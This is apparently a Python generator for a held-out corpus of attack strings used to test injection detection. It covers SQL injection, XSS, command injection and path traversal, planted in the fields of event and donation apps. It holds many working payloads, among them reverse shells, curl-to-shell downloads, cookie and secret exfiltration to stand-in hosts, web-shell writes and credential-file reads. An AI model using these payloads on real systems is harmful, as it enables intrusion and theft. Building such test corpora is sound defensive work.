"""Held-out attack corpus "events" (ids ha40-*).

Attacks carried in the ordinary fields of an event-registration platform, a ticketing
box office, a volunteer scheduler and a donation/CRM system: promo codes, badge names,
order ids, seat codes, tribute messages, newsletter merge fields, export file names,
calendar-feed and webhook URLs, check-in notes, staff-directory searches...

Each class is "<context>-<technique>[+<encoding>]": the context names the field and
the sink the vulnerable app puts it in (SQL string, shell line, file path, fetched URL,
server-side template, HTML without escaping, log line or header, LDAP filter/XPath);
"plain-" classes are context-free textbook forms. Every value was hand-written for this
corpus (literals below) or produced by a small template over hand-written pools.
Standard library only; fixed seed; byte-identical output on every run.
"""

import json
import random
from pathlib import Path

SEED = 4002
ID_PREFIX = "ha40"

# ---------------------------------------------------------------------------
# sqli: values concatenated into SQL (string literal, numeric, ORDER BY, LIMIT,
# INSERT/UPDATE value lists, LIKE patterns) on MySQL, Postgres, MSSQL, Oracle, SQLite
# ---------------------------------------------------------------------------
SQLI = [
    ("promo_code-tautology", "EARLYBIRD25' OR '1'='1"),
    ("promo_code-comment-truncation", "VOLUNTEER'-- -"),
    ("promo_code-union-select", "NOPE' UNION SELECT code, discount_pct, max_uses, NULL FROM promo_codes WHERE '1'='1"),
    ("promo_code-stacked-update", "GALA2025'; UPDATE promo_codes SET discount_pct=100, max_uses=99999 WHERE code='GALA2025'; --"),
    ("promo_code-time-blind-pg-sleep", "STUDENT-2025' AND 1=(SELECT 1 FROM pg_sleep(6))--"),
    ("order_id-boolean-blind-substring", "100482 AND SUBSTRING((SELECT email FROM donors ORDER BY total_given DESC LIMIT 1),1,1)='a'"),
    ("order_id-error-extractvalue", "88213 AND EXTRACTVALUE(1, CONCAT(0x7e, (SELECT CONCAT(username,0x3a,password_hash) FROM staff_users LIMIT 1)))"),
    ("order_id-error-cast-pg", "88213 AND 1=CAST((SELECT string_agg(email, ',') FROM attendees) AS int)"),
    ("order_id-stacked-xp-cmdshell", "9981; EXEC xp_cmdshell 'whoami'--"),
    ("event_search-like-union", "gala%' UNION ALL SELECT NULL, donor_name, card_last4, amount::text FROM donations--"),
    ("sort_param-orderby-case-oracle", "start_time, (CASE WHEN (SELECT COUNT(*) FROM staff_users WHERE role='owner')>0 THEN title ELSE venue END)"),
    ("sort_param-orderby-conditional-sleep", "price DESC, IF(ASCII(SUBSTRING(DATABASE(),1,1))>100, SLEEP(4), 0)"),
    ("badge_name-insert-subquery", "Pat', (SELECT api_key FROM integrations LIMIT 1))-- -"),
    ("badge_name-update-extra-columns", "Kit', is_vip=1, comp_tickets=50 WHERE attendee_id=4471-- -"),
    ("ticket_tier-paren-tautology", "GA') OR ('a'='a"),
    ("email_lookup-union-credentials", "jo@example.org' AND 1=0 UNION SELECT 1, username, password_hash, 4 FROM staff_users-- -"),
    ("event_date-derived-table-sleep", "2025-04-12' AND (SELECT 5821 FROM (SELECT(SLEEP(5)))x)-- -"),
    ("seat_code-stacked-delete", "J17'; DELETE FROM seat_holds WHERE event_id=4471; --"),
    ("event_search-union-sqlite-master", "jazz' UNION SELECT name, sql, NULL FROM sqlite_master WHERE type='table'--"),
    ("event_search-union-oracle-catalog", "brunch' UNION SELECT table_name, owner, NULL FROM all_tables--"),
    ("cheque_ref-mssql-conditional-waitfor", "1042'; IF (SELECT COUNT(*) FROM sys.sql_logins WHERE name='sa')=1 WAITFOR DELAY '0:0:5'--"),
    ("report_id-union-load-file", "0 UNION SELECT LOAD_FILE('/etc/mysql/debian.cnf'), 2, 3"),
    ("report_id-union-into-outfile-webshell", "0 UNION SELECT '<?php system($_GET[\"c\"]); ?>', 2, 3 INTO OUTFILE '/var/www/html/uploads/badge.php'"),
    ("order_id-pg-copy-to-program", "1; COPY (SELECT '') TO PROGRAM 'curl -s http://203.0.113.7/x.sh | sh'--"),
    ("order_id-mssql-dirtree-oob", "1; EXEC master..xp_dirtree '\\\\exfil.attacker.example\\share'--"),
    ("donor_search-oracle-utl-http-oob", "Smith' || UTL_HTTP.REQUEST('http://oob.attacker.example/'||(SELECT user FROM dual)) || '"),
    ("donor_search-mysql-unc-dns-exfil", "Lee' AND LOAD_FILE(CONCAT('\\\\\\\\',(SELECT password_hash FROM staff_users LIMIT 1),'.dns.attacker.example\\\\a'))-- -"),
    ("promo_code-no-space-like", "GALA'OR(1)LIKE(1)#"),
    ("signup_email-second-order-comment", "board.chair@riverside.example'-- -"),
    ("tribute_message-stacked-drop", "In loving memory of Grandma Rose'); DROP TABLE tributes;--"),
    ("dietary_note-insert-subquery", "vegan', (SELECT group_concat(email SEPARATOR ';') FROM attendees))#"),
    ("event_search-information-schema-blind", "Jazz' AND 1=(SELECT COUNT(*) FROM information_schema.tables WHERE table_schema=database() AND table_name LIKE 'pay%')-- -"),
    ("shift_id-numeric-tautology", "17 OR 1=1"),
    ("shift_id-paren-tautology", "17) OR (1=1"),
    ("donor_search-mssql-having-error", "Smith' GROUP BY donor_id HAVING 1=1--"),
    ("event_id-orderby-column-probe", "4471 ORDER BY 7-- -"),
    ("notes_search-pg-read-file", "x'; SELECT pg_read_file('/etc/passwd', 0, 2000);--"),
    ("page_size-offset-conditional-error", "10 OFFSET (SELECT CASE WHEN current_user='postgres' THEN 0 ELSE 1/0 END)"),
    ("attendee_ids-in-list-breakout", "4471) OR 1=1 OR id IN (4471"),
    ("event_search-union-draft-events", "Spring Gala' UNION SELECT title, ticket_url, admin_notes FROM events WHERE status='draft'-- -"),
    ("promo_code-concat-subquery-pg", "FRIENDS'||(SELECT token FROM api_tokens LIMIT 1)||'"),
    ("volunteer_search-double-query-error", "Ana' AND (SELECT 1 FROM (SELECT COUNT(*), CONCAT((SELECT password_hash FROM staff_users LIMIT 1), FLOOR(RAND(0)*2)) x FROM information_schema.tables GROUP BY x) y)-- -"),
    ("import_note-pg-copy-from-file", "';CREATE TEMP TABLE t(x text);COPY t FROM '/etc/passwd';SELECT string_agg(x, chr(10)) FROM t;--"),
    ("order_id-mssql-enable-xp-cmdshell", "1; EXEC sp_configure 'show advanced options',1; RECONFIGURE; EXEC sp_configure 'xp_cmdshell',1; RECONFIGURE;--"),
    ("volunteer_sort-orderby-pg-sleep", "(SELECT 1 FROM pg_sleep(4))"),
    ("event_id-subselect-sleep", "(SELECT 4471 FROM dual WHERE 1=1 AND SLEEP(3))"),
    ("attendee_search-union-sqlite-group-concat", "x' UNION SELECT group_concat(email, ';'), 2 FROM attendees --"),
    ("promo_code-benchmark-blind", "X' AND BENCHMARK(40000000, SHA1('gala'))-- -"),
    ("ticket_id-mssql-convert-error", "1 AND 1=CONVERT(int, (SELECT TOP 1 email FROM donors))"),
    ("receipt_search-mssql-openrowset-file", "x'; SELECT * FROM OPENROWSET(BULK 'C:\\Windows\\win.ini', SINGLE_CLOB) AS r--"),
    ("donor_search-oracle-to-number-error", "Kaur' AND 1=TO_NUMBER((SELECT banner FROM v$version WHERE ROWNUM=1))--"),
    ("donor_search-pg-version-cast-error", "Okafor' AND 1=CAST(version() AS int)--"),
    ("venue_search-mssql-blind-ascii", "Hall' AND ASCII(SUBSTRING((SELECT TOP 1 name FROM sys.databases),1,1))>77--"),
    ("staff_note-stacked-insert-admin", "x'; INSERT INTO staff_users (username, password_hash, role) VALUES ('helpdesk2', 'placeholder-hash', 'admin');--"),
    ("gift_ref-mssql-create-sysadmin", "'; CREATE LOGIN boxoffice2 WITH PASSWORD = 'Placeholder#123'; EXEC sp_addsrvrolemember 'boxoffice2', 'sysadmin';--"),
    ("attendee_search-heavy-cross-join", "x' AND (SELECT count(*) FROM attendees a, attendees b, attendees c) > 0 --"),
    ("donation_amount-arithmetic-subquery", "25 + (SELECT COUNT(*) FROM staff_users WHERE role='admin' AND SUBSTRING(password_hash,1,1)='$')"),
    ("checkin_gate-update-returning", "B'; UPDATE tickets SET status='checked_in' WHERE event_id=4471 RETURNING barcode;--"),
    ("waitlist_position-union-pg-settings", "0 UNION SELECT name, setting FROM pg_settings WHERE name IN ('data_directory','hba_file')"),
    ("order_id-union-select+versioned-comments", "0 /*!50000UNION*/ /*!50000SELECT*/ user(), version(), 3"),
    ("refund_search-union+case-mixing", "' uNiOn SeLeCt NuLl, ReFuNd_ToKeN, nUlL fRoM payments--"),
    ("donor_search-union+comment-spaces", "'/**/UNION/**/SELECT/**/email,/**/phone,/**/NULL/**/FROM/**/donors--"),
    ("promo_code-tautology+url-encoded", "SPRING15%27%20OR%201%3D1--%20"),
    ("event_search-union+double-url", "gala%2527%2520UNION%2520SELECT%2520username%252Cpassword_hash%2520FROM%2520staff_users--"),
    ("staff_login-union+char-function", "x' UNION SELECT CHAR(97,100,109,105,110), password_hash FROM staff_users WHERE username=CHAR(97,100,109,105,110)-- -"),
    ("staff_login-tautology+hex-literal", "x' OR username=0x61646d696e-- -"),
    ("promo_code-tautology+tab-whitespace", "GALA'\tOR\t1=1\t--\t"),
    ("session_notes-union+newline-whitespace", "'\nUNION\nSELECT\nusername,\npassword_hash\nFROM\nstaff_users--"),
    ("plain-tautology", "' OR 1=1 --"),
    ("plain-comment-login", "admin' --"),
    ("plain-sleep", "1' AND SLEEP(5)#"),
    ("plain-union-null-probe", "' UNION SELECT NULL,NULL,NULL--"),
    ("plain-stacked-drop", "1; DROP TABLE users"),
    ("plain-double-quote-tautology", "\" OR \"\"=\""),
    ("plain-paren-tautology", "') OR ('1'='1"),
    ("plain-waitfor", "'; WAITFOR DELAY '0:0:5'--"),
    ("plain-extractvalue", "1' AND extractvalue(1,concat(0x7e,version()))-- -"),
]

SQLI_FIELDS = ["GALA2025", "TEACHER20", "Row K", "O'Brien", "MEMBER2025", "Hernández"]
SQLI_TAILS = [
    ("promo_code-tautology", "' OR 'x'='x"),
    ("promo_code-union-select", "' UNION SELECT email, phone FROM donors-- -"),
    ("promo_code-time-blind-sleep", "' AND SLEEP(6)-- -"),
    ("promo_code-stacked-update", "'; UPDATE orders SET total=0 WHERE id=100482;--"),
]


def tpl_sqli(rng):
    cls, tail = rng.choice(SQLI_TAILS)
    return cls, rng.choice(SQLI_FIELDS) + tail


# ---------------------------------------------------------------------------
# xss: values rendered into HTML pages, attributes, inline scripts, styles, markdown
# ---------------------------------------------------------------------------
XSS = [
    ("badge_name-script-cookie-exfil", "Dana<script>fetch('https://attacker.example/c?'+document.cookie)</script>"),
    ("speaker_name-img-onerror-exfil", "Dr. Amara Okafor<img src=x onerror=\"new Image().src='//attacker.example/s?c='+encodeURIComponent(document.cookie)\">"),
    ("event_title-svg-onload", "Spring Gala 2025 <svg onload=alert(document.domain)>"),
    ("attribute_value-autofocus-onfocus", "\" autofocus onfocus=\"fetch('//attacker.example/k',{method:'POST',body:localStorage.getItem('token')})"),
    ("attribute_single_quote-onmouseover", "' onmouseover='alert(document.cookie)' x='"),
    ("speaker_website-javascript-uri", "javascript:fetch('//attacker.example/?'+document.cookie)"),
    ("speaker_website-javascript-uri+case-mixing", "JaVaScRiPt:alert(document.domain)"),
    ("speaker_website-javascript-uri+html-entities", "java&#x09;script:alert(document.domain)"),
    ("sponsor_link-javascript-uri+html-entities", "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)"),
    ("event_title_js_string-quote-breakout", "Gala';fetch('//attacker.example/'+document.cookie);//"),
    ("event_title_js-script-close-breakout", "</script><script>alert(origin)</script>"),
    ("event_title_js_template-interpolation", "${fetch('//attacker.example/t?'+document.cookie)}"),
    ("custom_css-style-close-breakout", "</style><img src=x onerror=alert(document.domain)>"),
    ("session_abstract-iframe-srcdoc", "<iframe srcdoc=\"&lt;script&gt;parent.alert(document.cookie)&lt;/script&gt;\"></iframe>"),
    ("session_abstract-details-ontoggle", "See full agenda <details open ontoggle=alert(1)><summary>Day 1</summary></details>"),
    ("speaker_video-source-onerror", "<video><source onerror=\"alert(document.domain)\"></video>"),
    ("event_description-body-onpageshow", "<body onpageshow=alert(1)>"),
    ("seating_note-anchor-onclick", "<a href=\"#\" onclick=\"location='//attacker.example/?'+document.cookie\">View seating chart</a>"),
    ("bio_rich_text-noscript-mxss", "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">"),
    ("session_abstract-markdown-js-link", "[Download the slides](javascript:alert(document.cookie))"),
    ("session_abstract-markdown-img-attr-breakout", "![seat map](https://cdn.example.org/map.png\" onerror=\"alert(1))"),
    ("registration_notes-input-autofocus", "<input onfocus=alert(document.domain) autofocus>"),
    ("event_title-marquee-onstart", "<marquee onstart=alert(1)>Now boarding!</marquee>"),
    ("session_abstract-fake-login-form", "<form action=\"https://attacker.example/login\" method=post><b>Your session expired.</b> Password: <input name=p type=password><button>Log in again</button></form>"),
    ("event_description-meta-refresh", "<meta http-equiv=\"refresh\" content=\"0;url=https://attacker.example/tickets\">"),
    ("event_description-base-href-hijack", "<base href=\"https://attacker.example/\">"),
    ("sponsor_blurb-object-data-uri+base64", "<object data=\"data:text/html;base64,PHNjcmlwdD5hbGVydChkb2N1bWVudC5kb21haW4pPC9zY3JpcHQ+\"></object>"),
    ("event_title-svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"),
    ("venue_map-svg-animate-href", "<svg><a><animate attributeName=href values=javascript:alert(1) /><text x=20 y=20>Click for map</text></a></svg>"),
    ("badge_name-angularjs-csti", "{{constructor.constructor('alert(document.cookie)')()}}"),
    ("badge_name-vue-csti", "{{_c.constructor('alert(1)')()}}"),
    ("tribute_message-img-onerror-eval-atob+base64", "<img src=x onerror=eval(atob('ZmV0Y2goJy8vYXR0YWNrZXIuZXhhbXBsZS94P2M9Jytkb2N1bWVudC5jb29raWUp'))>"),
    ("dietary_note-img-onerror+unicode-escapes", "<img src=x onerror=\"\\u0061lert(document.domain)\">"),
    ("search_reflect-script-tag+url-encoded", "%3Cscript%3Ealert(document.domain)%3C%2Fscript%3E"),
    ("search_reflect-svg-onload+double-url", "%253Csvg%2520onload%253Dalert(1)%253E"),
    ("attendee_note-img-onerror+html-entities", "<img src=x onerror=\"&#97;&#108;&#101;&#114;&#116;&#40;1&#41;\">"),
    ("event_title-nested-tag-strip-bypass", "<scr<script>ipt>alert(1)</scr</script>ipt>"),
    ("badge_name-img-onerror+case-mixing", "<IMG SRC=x OnErRoR=alert(document.cookie)>"),
    ("event_title-svg-slash-separator", "<svg/onload=alert(1)>"),
    ("volunteer_note-img-newline-separators", "<img\nsrc=x\nonerror=alert(1)>"),
    ("share_link-dom-hash-innerhtml", "https://events.example.org/e/4471#<img src=x onerror=alert(document.domain)>"),
    ("attribute_value-external-script", "\"><script src=https://attacker.example/x.js></script>"),
    ("attribute_single_quote-svg-onload", "'><svg onload=alert(1)>"),
    ("notes_textarea-breakout-script", "</textarea><script>alert(document.cookie)</script>"),
    ("event_title-title-breakout", "</title><script>alert(1)</script>"),
    ("internal_note-html-comment-breakout", "--><script>alert(1)</script><!--"),
    ("event_description-external-stylesheet", "<link rel=stylesheet href=//attacker.example/x.css>"),
    ("sponsor_logo_svg-inline-script", "<svg xmlns=\"http://www.w3.org/2000/svg\"><script>alert(document.domain)</script></svg>"),
    ("program_link-javascript-uri+html-entities", "<a href=\"javascript&colon;alert(1)\">Program (PDF)</a>"),
    ("speaker_bio-img-onerror-page-exfil", "<img src=\"x\" onerror=\"this.src='https://attacker.example/p?'+btoa(document.body.innerText.slice(0,500))\">"),
    ("bio_rich_text-svg-style-mxss", "<svg><style><img src=x onerror=alert(1)></style></svg>"),
    ("registration_form-select-autofocus", "<select autofocus onfocus=alert(1)>"),
    ("notes-textarea-autofocus", "<textarea autofocus onfocus=alert(document.cookie)>"),
    ("seat_onclick_js-quote-breakout", "');alert(document.domain);//"),
    ("event_json_in_script-breakout", "\"}</script><script>alert(1)</script>"),
    ("event_title_js-backslash-escape-bypass", "\\';alert(1);//"),
    ("event_description-style-import", "<style>@import'//attacker.example/a.css';</style>"),
    ("badge_name-img-onerror-dynamic-import", "<img src=x onerror=import('//attacker.example/m.js')>"),
    ("event_description-overlay-clickjack-link", "<a href=\"https://attacker.example/refund\" style=\"display:block;position:fixed;top:0;left:0;width:100%;height:100%\"></a>"),
    ("tribute_message-img-onerror-redirect", "Forever in our hearts, Mom ❤️<img src=x onerror=\"document.location='https://attacker.example/donate?ref='+document.cookie\">"),
    ("dietary_note-script-image-beacon", "Vegan<script>new Image().src='//attacker.example/l?'+document.cookie</script>"),
    ("volunteer_note-svg-onload-admin-fetch", "can do Sat 8-12 <svg onload=\"fetch('/api/admin/users',{credentials:'include'}).then(r=>r.text()).then(t=>fetch('//attacker.example/d',{method:'POST',body:t}))\">"),
    ("checkin_note-img-onload", "scan ok <img src=//attacker.example/pixel.gif onload=alert(document.domain)>"),
    ("speaker_bio-iframe-phishing", "<iframe src=\"https://attacker.example/fake-login\" width=600 height=400 frameborder=0></iframe>"),
    ("event_description-audio-onerror", "<audio src=x onerror=alert(1)>"),
    ("json_field-img-onerror+unicode-escapes", "\\u003cimg src=x onerror=alert(document.domain)\\u003e"),
    ("session_abstract-svg-script+html-entities", "<svg><script>alert&#40;document.domain&#41;</script></svg>"),
    ("search_reflect-script-tag+overlong-utf8", "%C0%BCscript%C0%BEalert(1)%C0%BC/script%C0%BE"),
    ("plain-script-alert", "<script>alert(1)</script>"),
    ("plain-img-onerror", "<img src=x onerror=alert(1)>"),
    ("plain-attr-breakout-img", "\"><img src=x onerror=alert(document.cookie)>"),
    ("plain-svg-onload", "<svg onload=alert('XSS')>"),
    ("plain-javascript-uri", "javascript:alert(1)"),
    ("plain-body-onload", "<body onload=alert('XSS')>"),
    ("plain-iframe-js-src", "<iframe src=javascript:alert(1)>"),
    ("plain-script-external", "<script src=//attacker.example/x.js></script>"),
]

XSS_PREFIX = ["Priya Raman", "Gala 2025", "Table 12", "Vegetarian", "Row M seat 3", "Zoë"]
XSS_VECTORS = [
    ("badge_name-img-onerror", "<img src=/nope.png onerror=alert(document.domain)>"),
    ("badge_name-svg-onload", "<svg onload=fetch('//attacker.example/b?'+document.cookie)>"),
    ("badge_name-script-tag", "<script>alert(document.cookie)</script>"),
]


def tpl_xss(rng):
    cls, vec = rng.choice(XSS_VECTORS)
    return cls, rng.choice(XSS_PREFIX) + rng.choice([" ", ""]) + vec


# ---------------------------------------------------------------------------
# cmdi: values placed in shell lines (export/zip/print jobs, ping checks,
# image conversion, mail, ffmpeg) or as arguments to a fixed command
# ---------------------------------------------------------------------------
CMDI = [
    ("export_filename-semicolon-curl-sh", "attendees_2025-04-12.csv; curl -s https://attacker.example/i.sh | sh"),
    ("export_filename-and-wget-bash", "gala_checkin.csv && wget -qO- http://203.0.113.9/b | bash"),
    ("report_name-pipe-nc-reverse-shell", "report.pdf | nc 198.51.100.4 4444 -e /bin/sh"),
    ("export_filename-dollar-substitution", "$(curl -fsSL https://attacker.example/p.sh | sh).csv"),
    ("export_filename-backtick-substitution", "`id > /tmp/.x`roster.xlsx"),
    ("badge_print_name-substitution-exfil", "Zoë $(base64 -w0 /etc/passwd | curl -d @- https://attacker.example/u)"),
    ("stream_host_ping-bash-dev-tcp", "stream.example.org; bash -c 'bash -i >& /dev/tcp/203.0.113.50/443 0>&1'"),
    ("stream_host_ping-python-reverse-shell", "8.8.8.8 || python3 -c 'import socket,os,pty;s=socket.socket();s.connect((\"198.51.100.23\",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn(\"/bin/sh\")'"),
    ("stream_host_ping-newline-separator", "venue-av.example.org\nid\nuname -a"),
    ("export_filename-ifs-spaces", "x;cat${IFS}/etc/shadow"),
    ("export_filename-brace-expansion", "x;{cat,/etc/passwd}"),
    ("label_printer_name-quote-splitting", "a;c'a't /etc/pas''swd"),
    ("label_printer_name-backslash-splitting", "a;c\\at /e\\tc/pa\\sswd"),
    ("export_filename-printf-substitution+hex-escapes", "x;$(printf '\\x63\\x61\\x74') /etc/hostname"),
    ("export_filename-pipe-to-sh+base64", "x;echo Y3VybCAtcyBodHRwczovL2F0dGFja2VyLmV4YW1wbGUveCB8IHNo | base64 -d | sh"),
    ("roster_export_win-powershell-iex", "roster.csv & powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.8/r.ps1')\""),
    ("receipt_print_win-pipe-type", "receipt.pdf | type C:\\Windows\\win.ini"),
    ("receipt_print_win-certutil-download", "x & certutil -urlcache -split -f http://198.51.100.7/a.exe %TEMP%\\a.exe & %TEMP%\\a.exe"),
    ("receipt_print_win-caret-obfuscation", "x & w^h^o^a^m^i"),
    ("seatmap_convert-double-quote-breakout", "seatmap.png\" ; touch /tmp/pwned ; \""),
    ("banner_text-single-quote-breakout", "Welcome!'; rm -rf /var/www/uploads/*; echo '"),
    ("calendar_url_curl-output-argument", "-o /var/www/html/cal.php https://attacker.example/cal.txt"),
    ("backup_filename-tar-checkpoint-argument", "--checkpoint=1 --checkpoint-action=exec=sh /tmp/up.sh"),
    ("sftp_host-ssh-proxycommand-argument", "-oProxyCommand=curl${IFS}attacker.example|sh"),
    ("reply_to-sendmail-argument-injection", "organizer@example.org -X/var/www/html/log.php -OQueueDirectory=/tmp"),
    ("archive_name-zip-testcommand-argument", "photos.zip -T -TT 'sh -c id'"),
    ("donor_name_receipt-backtick-oob", "Jane `curl attacker.example/$(whoami)` Doe"),
    ("stream_host_ping-pipe-sleep-blind", "x|sleep 10"),
    ("stream_host_ping-loopback-ping-blind", "x;ping -c 10 127.0.0.1"),
    ("export_filename-dollar-sleep-blind", "x$(sleep 7)"),
    ("stream_host-nslookup-dns-oob", "x`nslookup $(whoami).oob.attacker.example`"),
    ("stream_host-dig-dns-oob", "a;dig +short $(hostname).oob.attacker.example"),
    ("export_filename-perl-reverse-shell", "x; perl -MIO::Socket::INET -e '$s=IO::Socket::INET->new(\"198.51.100.23:9001\");open(STDIN,\"<&\",$s);open(STDOUT,\">&\",$s);exec(\"/bin/sh -i\")'"),
    ("export_filename-php-reverse-shell", "x; php -r '$s=fsockopen(\"203.0.113.50\",4444);exec(\"/bin/sh -i <&3 >&3 2>&3\");'"),
    ("export_filename-awk-system", "x;awk 'BEGIN{system(\"id\")}'"),
    ("export_filename-crontab-persistence", "x; (crontab -l; echo '* * * * * curl -s attacker.example/b|sh') | crontab -"),
    ("export_filename-authorized-keys-append", "x; mkdir -p ~/.ssh; echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIPlaceholderKeyNotReal000000000000000000 attacker' >> ~/.ssh/authorized_keys"),
    ("export_filename-env-exfil", "x; env | curl -X POST --data-binary @- https://attacker.example/env"),
    ("export_filename-proc-environ-nc", "x; cat /proc/self/environ | nc 203.0.113.9 80"),
    ("stream_host-newline-separator+url-encoded", "stream.example.org%0Aid"),
    ("export_filename-semicolon+url-encoded", "roster.csv%3Bcat%20%2Fetc%2Fpasswd"),
    ("export_filename-semicolon+double-url", "roster.csv%253Bid"),
    ("export_filename-empty-variable-split", "x;w${u}ho${u}ami"),
    ("export_filename-glob-wildcards", "x;/???/c?t /???/p?ss??"),
    ("export_filename-glob-brackets", "x;/bin/ca[t] /et[c]/passw[d]"),
    ("export_filename-string-reversal", "x;$(rev<<<'dwssap/cte/ tac')"),
    ("export_filename-variable-substring-slash", "x;${PATH:0:1}usr${PATH:0:1}bin${PATH:0:1}id"),
    ("export_filename-brace-pipe-bash+base64", "x;{echo,Y2F0IC9ldGMvcGFzc3dk}|{base64,-d}|bash"),
    ("event_title_notifier-double-quote-breakout", "Gala 2025\"; curl https://attacker.example/$(id -u); \""),
    ("logo_resize-python-os-system", "logo.png -resize 10x10 ; python3 -c 'import os;os.system(\"id\")' #"),
    ("rtmp_url_ffmpeg-dollar-substitution", "rtmp://live.example.org/app/key$(curl -s 198.51.100.14/s|sh)"),
    ("pwsh_context-semicolon-iwr-exfil", "x; Invoke-WebRequest -Uri \"http://203.0.113.8/?h=$env:COMPUTERNAME\""),
    ("ping_host_win-or-ping-timing", "a || ping -n 11 127.0.0.1"),
    ("receipt_print_win-unc-executable", "x & \\\\198.51.100.5\\tools\\nc.exe -e cmd.exe 198.51.100.5 4444"),
    ("export_filename-busybox-nc", "x;busybox nc 203.0.113.50 4444 -e sh"),
    ("export_filename-socat-pty", "x;socat exec:'bash -li',pty,stderr tcp:198.51.100.23:9001"),
    ("export_filename-curl-upload-dotenv", "x;curl -F 'f=@/var/www/app/.env' https://attacker.example/up"),
    ("export_filename-tar-exfil", "x;tar czf - /var/lib/ticketing | curl -T - https://attacker.example/dump.tgz"),
    ("receipt_print_win-ampersand+case-mixing", "x & WhOaMi /AlL"),
    ("venue_note_mail-multiline-substitution", "Setup notes for the tent:\nstakes ≤ 18\"\n$(curl -s https://attacker.example/t.sh|sh)"),
    ("export_filename-process-substitution", "x; bash <(curl -s https://attacker.example/i)"),
    ("export_filename-here-string", "x; sh <<< \"$(curl -s attacker.example/r)\""),
    ("volunteer_sms_gateway-backtick-in-message", "Shift confirmed for Sat 8–12 `wget -q -O /tmp/.s http://203.0.113.9/s && sh /tmp/.s`"),
    ("plain-semicolon-ls", "; ls -la"),
    ("plain-pipe-whoami", "| whoami"),
    ("plain-and-cat-passwd", "&& cat /etc/passwd"),
    ("plain-backtick-id", "`id`"),
    ("plain-dollar-whoami", "$(whoami)"),
    ("plain-semicolon-sleep", "; sleep 5"),
    ("plain-or-uname", "|| uname -a"),
]

CMDI_FILES = ["checkin_export.csv", "donors_q3.xlsx", "badges_batch7.pdf", "seatmap_orch.png",
              "volunteer_hours.csv", "gala_photos.zip"]
CMDI_SEPS = ["; ", " && ", " | ", " || ", "\n"]
CMDI_CMDS = ["curl -s http://198.51.100.20/a | sh", "cat /etc/shadow", "id; hostname",
             "wget -qO /tmp/k http://203.0.113.33/k && chmod +x /tmp/k && /tmp/k"]


def tpl_cmdi(rng):
    sep = rng.choice(CMDI_SEPS)
    name = {"; ": "semicolon", " && ": "and", " | ": "pipe", " || ": "or", "\n": "newline"}[sep]
    return f"export_filename-{name}-chain", rng.choice(CMDI_FILES) + sep + rng.choice(CMDI_CMDS)


# ---------------------------------------------------------------------------
# traversal: values joined onto a base directory and opened (attachments, ticket
# PDFs, templates, locales, speaker photos, zip entries, log viewer)
# ---------------------------------------------------------------------------
TRAVERSAL = [
    ("plain-dotdot-passwd", "../../../../etc/passwd"),
    ("ticket_pdf-dotdot-dotenv", "tickets/../../../../var/www/app/.env"),
    ("template_name-dotdot-settings", "../../config/settings.py"),
    ("attachment-dotdot+url-encoded", "..%2f..%2f..%2f..%2fetc%2fpasswd"),
    ("attachment-dotdot+double-url", "..%252f..%252f..%252fetc%252fhosts"),
    ("speaker_photo-dots+overlong-utf8", "%c0%ae%c0%ae/%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd"),
    ("speaker_photo-slash+overlong-utf8", "..%c0%af..%c0%af..%c0%afetc/passwd"),
    ("receipt_file-strip-once-bypass", "....//....//....//etc/passwd"),
    ("receipt_file-nested-dot-bypass", "..././..././..././etc/passwd"),
    ("plain-windows-backslash", "..\\..\\..\\..\\Windows\\win.ini"),
    ("report_download-windows-web-config", "..\\..\\..\\inetpub\\wwwroot\\web.config"),
    ("attachment-absolute-windows-hosts", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("plain-absolute-passwd", "/etc/passwd"),
    ("attachment-absolute-proc-environ", "/proc/self/environ"),
    ("template_name-proc-self-cwd", "/proc/self/cwd/app.py"),
    ("ticket_pdf-null-byte-extension+url-encoded", "../../../../etc/passwd%00.pdf"),
    ("zip_entry-zip-slip-authorized-keys", "../../../../home/app/.ssh/authorized_keys"),
    ("locale-dotdot-group", "en/../../../../../etc/group"),
    ("email_template-dotdot-bash-history", "emails/receipt/../../../../../root/.bash_history"),
    ("log_viewer-absolute-access-log", "/var/log/nginx/access.log"),
    ("attachment-mixed-slashes", "..\\/..\\/..\\/etc/passwd"),
    ("speaker_photo-dotdot+fullwidth-unicode", "．．／．．／．．／etc/passwd"),
    ("attachment-dots+url-encoded", "%2e%2e/%2e%2e/%2e%2e/etc/passwd"),
    ("report_download-backslash+url-encoded", "%2e%2e%5c%2e%2e%5c%2e%2e%5cwindows%5cwin.ini"),
    ("report_download-backslash-only+url-encoded", "..%5c..%5c..%5c..%5cboot.ini"),
    ("attachment-dots-and-slash+double-url", "%252e%252e%252f%252e%252e%252fetc%252fpasswd"),
    ("attachment-prefix-check-bypass", "/var/www/events/static/../../../../etc/passwd"),
    ("static_asset-dotdot-proc-cmdline", "static/images/../../../../../../proc/self/cmdline"),
    ("speaker_upload-tomcat-semicolon-segment", "uploads/speakers/..;/..;/WEB-INF/web.xml"),
    ("redirect_path-proxy-semicolon-escape", "/events/..;/manager/html"),
    ("attachment-deep-dotdot-hosts", "../../../../../../../../../../../../../../../../etc/hosts"),
    ("speaker_photo-filename-then-dotdot", "photo.jpg/../../../../../etc/passwd"),
    ("badge_template-dotdot-secret-key", "badge_templates/default/../../../../app/secrets/stripe.key"),
    ("attachment-dotdot-aws-credentials", "../../../../home/ubuntu/.aws/credentials"),
    ("attachment-dotdot-root-ssh-key", "../../../../root/.ssh/id_rsa"),
    ("theme_path-dotdot-git-config", "../../../.git/config"),
    ("theme_path-dotdot-env-production", "../../.env.production"),
    ("export_path_win-dotdot-filezilla", "..\\..\\..\\..\\Users\\Administrator\\AppData\\Roaming\\FileZilla\\recentservers.xml"),
    ("receipt_file-doubled-slashes-bypass", "....////....////etc/passwd"),
    ("db_backup-dotdot+url-encoded", "%2e%2e%2f%2e%2e%2f%2e%2e%2fvar%2flib%2fticketing%2fdb.sqlite3"),
    ("receipt_attachment-dotdot-tls-key", "Receipt_2025/../../../../etc/ssl/private/server.key"),
    ("attachment-dotdot-k8s-token", "../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token"),
    ("attachment-dotdot-pid1-environ", "../../../../proc/1/environ"),
